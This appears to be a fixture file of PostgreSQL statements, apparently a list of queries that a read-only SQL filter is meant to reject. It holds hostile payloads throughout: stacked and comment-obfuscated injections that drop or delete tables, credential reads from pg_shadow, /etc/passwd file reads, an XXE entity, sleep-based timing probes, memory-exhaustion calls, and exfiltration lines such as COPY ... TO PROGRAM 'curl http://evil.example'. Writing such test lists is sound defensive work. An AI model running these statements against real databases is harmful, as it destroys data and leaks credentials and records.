SELECT 1; DROP TABLE orders

SELECT * FROM orders WHERE order_id = 1; DELETE FROM orders; --

SELECT name FROM customers; UPDATE employees SET salary = 0

DROP TABLE orders

DELETE FROM orders WHERE order_id = 1

UPDATE orders SET status = 'paid'

INSERT INTO orders (order_id) VALUES (1)

INSERT INTO orders SELECT * FROM orders

TRUNCATE orders

WITH gone AS (DELETE FROM orders RETURNING *) SELECT COUNT(*) FROM gone

WITH a AS (SELECT 1), b AS (UPDATE employees SET salary = salary * 2 RETURNING salary) SELECT * FROM a, b

WITH n AS (INSERT INTO customers (name) VALUES ('x') RETURNING customer_id) SELECT customer_id FROM n

WITH t AS (SELECT 1) DELETE FROM orders USING t

WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) INSERT INTO stock (product_id) SELECT n FROM r

SELECT * FROM (WITH x AS (DELETE FROM stock RETURNING *) SELECT * FROM x) AS y

SELECT * INTO copied FROM customers

SELECT name INTO TEMP TABLE t FROM customers

SELECT name INTO UNLOGGED t FROM customers

CREATE TABLE t AS SELECT * FROM customers

CREATE OR REPLACE VIEW v AS SELECT * FROM employees

ALTER TABLE orders ADD COLUMN x int

ALTER ROLE postgres SUPERUSER

GRANT ALL ON orders TO PUBLIC

COPY customers TO '/tmp/customers.csv'

COPY (SELECT * FROM customers) TO PROGRAM 'curl http://evil.example -d @-'

COPY orders FROM PROGRAM 'id'

SELECT pg_sleep(10)

SELECT CASE WHEN EXISTS (SELECT 1 FROM employees WHERE salary > 9000) THEN pg_sleep(5) END

SELECT pg_catalog.pg_sleep(10)

SELECT "pg_sleep"(10)

SELECT pg_catalog."pg_sleep"(10)

SELECT pg_sleep/* nothing to see */(10)

SELECT pg_sleep
(10)

SELECT name FROM customers ORDER BY (SELECT pg_sleep_for('5 minutes'))

SELECT * FROM pg_read_file('/etc/passwd')

SELECT pg_read_binary_file('/etc/passwd')

SELECT * FROM pg_ls_dir('.')

SELECT pg_stat_file('postgresql.conf')

SELECT lo_import('/etc/passwd')

SELECT lo_export(1234, '/tmp/x')

SELECT lo_from_bytea(0, 'x'::bytea)

SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)

SELECT dblink_connect('host=evil.example user=x')

SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')

SELECT query_to_xml('DELETE FROM orders', true, true, '')

SELECT database_to_xml(true, true, '')

SELECT table_to_xml('employees', true, false, '')

SELECT * FROM ts_stat('SELECT vector FROM secrets')

SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a int, b int)

SELECT nextval('orders_order_id_seq')

SELECT setval('orders_order_id_seq', 1)

SELECT set_config('role', 'postgres', false)

SELECT current_setting('data_directory')

SELECT pg_terminate_backend(pid) FROM pg_stat_activity

SELECT pg_cancel_backend(1)

SELECT pg_reload_conf()

SELECT pg_rotate_logfile()

SELECT pg_advisory_lock(1)

SELECT pg_notify('channel', 'payload')

SELECT pg_create_logical_replication_slot('s', 'test_decoding')

SELECT pg_switch_wal()

SELECT pg_file_write('/tmp/x', 'y', false)

SELECT txid_current()

SELECT usename, passwd FROM pg_shadow

SELECT rolname, rolpassword FROM pg_catalog.pg_authid

SELECT table_name FROM information_schema.tables

SELECT * FROM "pg_catalog"."pg_user"

SELECT * FROM "information_schema".columns

WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow

SELECT (WITH pg_shadow AS (SELECT 1) SELECT 1), passwd FROM pg_shadow

WITH a AS (SELECT * FROM pg_shadow), pg_shadow AS (SELECT 1) SELECT * FROM a

WITH "PG_SHADOW" AS (SELECT 1) SELECT * FROM pg_shadow

SELECT * FROM orders FOR UPDATE

SELECT * FROM orders FOR NO KEY UPDATE NOWAIT

SELECT * FROM orders FOR KEY SHARE

SELECT * FROM (SELECT * FROM orders FOR UPDATE) AS o

DO $$ BEGIN PERFORM pg_sleep(10); END $$

DO $x$ BEGIN EXECUTE 'DROP TABLE orders'; END $x$

SELECT $$x$$; DROP TABLE orders; SELECT $$y$$

SELECT $tag$ ; $tag$ ; DELETE FROM orders

CALL refresh_everything()

EXPLAIN ANALYZE DELETE FROM orders

EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = 'x'

EXPLAIN ANALYZE SELECT pg_sleep(10)

PREPARE p AS DELETE FROM orders

EXECUTE p

DECLARE c CURSOR FOR SELECT * FROM orders

SET ROLE postgres

RESET ALL

SHOW data_directory

VACUUM FULL orders

ANALYZE orders

LOCK TABLE orders IN ACCESS EXCLUSIVE MODE

LISTEN channel

NOTIFY channel, 'x'

LOAD 'evil.so'

REFRESH MATERIALIZED VIEW m

CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql

CREATE EXTENSION dblink

BEGIN; DELETE FROM orders; COMMIT

/* harmless */ DELETE /* really */ FROM /**/ orders

SELECT 1 /* ; */ ; /* */ DROP TABLE orders

SELECT 1 --
; DROP TABLE orders

SELECT E'\'; DROP TABLE orders; --', pg_sleep(1)

SELECT 'a' 'b'; DROP TABLE orders

TABLE pg_authid

SELECT * FROM my_own_function(1)

SELECT audit.log_access(customer_id) FROM customers

SELECT 'pg_shadow'::regclass

SELECT 1 OPERATOR(evil.+) 2

SELECT XMLPARSE(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')

SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b text)

SELECT U&"\0070g_sleep"(1)

MERGE INTO stock USING products ON stock.product_id = products.product_id WHEN MATCHED THEN DELETE

SELECT * FROM orders WHERE order_id = $1

SELECT * FROM other_db.public.orders

SELECT * FROM orders TABLESAMPLE evil (10)

SELECT * FROM ROWS FROM (pg_sleep(1)) AS x

SELECT COUNT(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders

SELECT name FROM customers LIMIT (SELECT pg_sleep(1)::text::int)

SELECT status FROM orders GROUP BY status HAVING nextval('s') > 0

SELECT format('%900000000s', name) FROM customers

SELECT format('%1$*2$s', name, 900000000) FROM customers

SELECT lpad(name, 900000000) FROM customers

SELECT rpad('x', 1000 * 1000 * 100, 'y')

SELECT rpad('x', '900000000')

SELECT array_fill(0, ARRAY[250000000])
